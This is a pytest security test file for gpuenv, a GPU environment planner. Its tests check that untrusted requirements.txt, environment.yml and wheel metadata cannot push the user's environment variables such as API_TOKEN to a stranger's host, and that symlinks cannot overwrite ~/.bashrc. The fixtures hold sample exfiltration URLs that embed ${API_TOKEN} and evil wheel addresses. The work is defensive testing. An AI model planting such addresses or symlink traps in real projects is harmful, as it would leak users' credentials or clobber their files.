"""What a stranger's files name: other places, other files, the variables of whoever reads them."""

from __future__ import annotations

from pathlib import Path

import pytest
from attacks import attack, held_off
from index_server import IndexServer
from running import Program
from strangers import Stranger
from tiny_wheels import tiny_wheel

from gpuenv.installers.resolver_variables import may_tell_secrets
from gpuenv.model.plan import Sources

SECRET = "t0p-secret-of-the-user"


def torch_of(server: IndexServer) -> tuple[str, ...]:
    return ("--cuda", "cpu", "--mirror", server.pytorch, "--mirror", server.pypi, "--json")


def base(stranger: Stranger) -> str:
    return stranger.url.removesuffix("/simple")


ADDRESSES = {
    "path": "{base}/${{API_TOKEN}}/evil-1.0-py3-none-any.whl",
    "query": "{base}/evil-1.0-py3-none-any.whl?x=${{API_TOKEN}}",
    "host": "${{STRANGER}}/${{API_TOKEN}}/evil-1.0-py3-none-any.whl",
    "archive": "{base}/${{API_TOKEN}}/evil-1.0.tar.gz",
}


@attack(
    "has `${NAME}` in an address in requirements.txt or environment.yml",
    "the variables of whoever plans it, in a request",
    without="variables-go-into-addresses+builds-what-is-named",
)
@pytest.mark.parametrize("kind", ["requirements.txt", "environment.yml"])
@pytest.mark.parametrize("where", ADDRESSES)
def test_no_variable_of_the_user_goes_to_an_address(
    program: Program, checkout: Path, server: IndexServer, stranger: Stranger, where: str, kind: str
) -> None:
    user = program.with_(API_TOKEN=SECRET, STRANGER=base(stranger))
    lines = ("torch==2.14.1", f"evil @ {ADDRESSES[where].format(base=base(stranger))}")
    if kind == "requirements.txt":
        (checkout / kind).write_text("\n".join(lines), encoding="utf-8")
    else:
        text = f"dependencies:\n- pip:\n  - {lines[0]}\n  - {lines[1]}\n"
        (checkout / kind).write_text(text, encoding="utf-8")
    option = "-r" if kind == "requirements.txt" else "-f"
    done = user.run("plan", option, kind, *torch_of(server))
    held_off(not any(SECRET in path for path in stranger.requests), stranger.requests)
    answers = [item["message"] for item in done.envelope["warnings"] if item["code"] == "not-resolved"]
    assert "${" in "".join(answers)


@pytest.mark.slow
@attack(
    "has `${NAME}` in an address that a wheel's metadata names",
    "the variables of whoever plans it, in a request",
    without="uv-sees-all-variables",
)
@pytest.mark.parametrize("name", ["API_TOKEN", "UV_PUBLISH_TOKEN", "UV_INDEX_OURS_PASSWORD"])
def test_no_variable_goes_to_an_address_in_metadata(
    program: Program, checkout: Path, server: IndexServer, stranger: Stranger, name: str
) -> None:
    needed = f"evil @ {base(stranger)}/${{{name}}}/evil-1.0-py3-none-any.whl"
    wheel = tiny_wheel(program.root / "wheels", "trap", "1.0", requires=(needed,))
    (checkout / "requirements.txt").write_text(f"torch==2.14.1\ntrap @ {wheel.as_uri()}\n", encoding="utf-8")
    program.with_(**{name: SECRET}).run("plan", "-r", "requirements.txt", *torch_of(server))
    held_off(not any(SECRET in path for path in stranger.requests), stranger.requests)


@pytest.mark.parametrize(
    "url", ["https://ada:hunter2@h.example/simple", "https://h.example/simple?token=hunter2"]
)
def test_uv_is_given_no_password_beside_a_wheel_of_a_stranger(url: str) -> None:
    """It would be in a variable, whose name is known."""
    public = "https://h.example/simple"
    assert may_tell_secrets(Sources(url, (), ()), {})
    assert may_tell_secrets(Sources(public, (url,), ()), {})
    assert may_tell_secrets(Sources(public, (), ()), {"HTTPS_PROXY": url})
    assert not may_tell_secrets(Sources(public, (), ()), {"HOME": "/home/ada", "API_TOKEN": "hunter2"})


@pytest.mark.slow
@attack("names an index in requirements.txt", "packages planned from it", without="lines-of-places-count")
@pytest.mark.parametrize(
    "line", ["--index-url {url}", "-i {url}", "--extra-index-url={url}", "-f {url}/x.html"]
)
def test_an_index_that_a_requirements_file_names_is_not_asked(
    program: Program, checkout: Path, server: IndexServer, stranger: Stranger, line: str
) -> None:
    text = f"{line.format(url=stranger.url)}\ntorch==2.14.1\nmylib\n"
    (checkout / "requirements.txt").write_text(text, encoding="utf-8")
    done = program.run("plan", "-r", "requirements.txt", *torch_of(server))
    held_off(stranger.requests == [], stranger.requests)
    assert done.status == 0, done.out
    assert "requirements-file" in [item["code"] for item in done.envelope["warnings"]]


CHANNELS = {
    "channel": "channels: ['{url}']\ndependencies: [python=3.11, pytorch]\n",
    "spec": "channels: [conda-forge]\ndependencies: [python=3.11, '{url}::pytorch']\n",
}


@pytest.mark.parametrize("kind", CHANNELS)
def test_a_channel_that_an_environment_yml_names_by_address_is_not_asked(
    program: Program, checkout: Path, server: IndexServer, stranger: Stranger, kind: str
) -> None:
    text = CHANNELS[kind].format(url=stranger.url)
    (checkout / "environment.yml").write_text(text, encoding="utf-8")
    program.run("plan", "-f", "environment.yml", *torch_of(server))
    assert stranger.requests == []


OUTPUTS = {
    "requirements.txt": ("--format", "requirements.txt"),
    "pylock.toml": ("--format", "json"),
    "Dockerfile": ("--format", "uv"),
}


@pytest.mark.slow
@attack("leaves a link where a file is written", "a file of the user's lost", without="writes-through-links")
@pytest.mark.parametrize("name", OUTPUTS)
def test_nothing_is_written_over_through_a_link(
    program: Program, checkout: Path, server: IndexServer, name: str
) -> None:
    victim = program.home / ".bashrc"
    victim.write_text("# gp's own\nalias ll='ls -l'\n", encoding="utf-8")
    (checkout / name).symlink_to(victim)
    done = program.run("plan", "torch==2.14.1", *torch_of(server)[:-1], *OUTPUTS[name], "-o", name)
    held_off(victim.read_text(encoding="utf-8").startswith("# gp's own\n"))
    assert done.status == 2, done.err


@attack("leaves a link to what is not there", "a file of the user's made", without="writes-through-links")
def test_nothing_is_made_through_a_link(program: Program, checkout: Path, server: IndexServer) -> None:
    victim = program.home / ".pam_environment"
    (checkout / "requirements.txt").symlink_to(victim)
    words = ("--format", "requirements.txt", "-o", "requirements.txt")
    done = program.run("plan", "torch==2.14.1", *torch_of(server)[:-1], *words)
    held_off(not victim.exists())
    assert f"{victim}, which was not created by gpuenv" in done.err


@pytest.mark.slow
def test_ones_own_links_are_written_through(program: Program, checkout: Path, server: IndexServer) -> None:
    """To a file beside the link, and to one that gpuenv made elsewhere."""
    words = ("plan", "torch==2.14.1", *torch_of(server)[:-1], "--format", "requirements.txt", "-o")
    (checkout / "requirements").mkdir()
    (checkout / "requirements.txt").symlink_to("requirements/gpu.txt")
    assert program.run(*words, "requirements.txt").status == 0
    assert "torch==2.14.1" in (checkout / "requirements" / "gpu.txt").read_text(encoding="utf-8")
    (program.home / "mine.txt").write_text("# made by gpuenv\n", encoding="utf-8")
    (checkout / "linked.txt").symlink_to(program.home / "mine.txt")
    assert program.run(*words, "linked.txt").status == 0
    assert (checkout / "linked.txt").is_symlink()
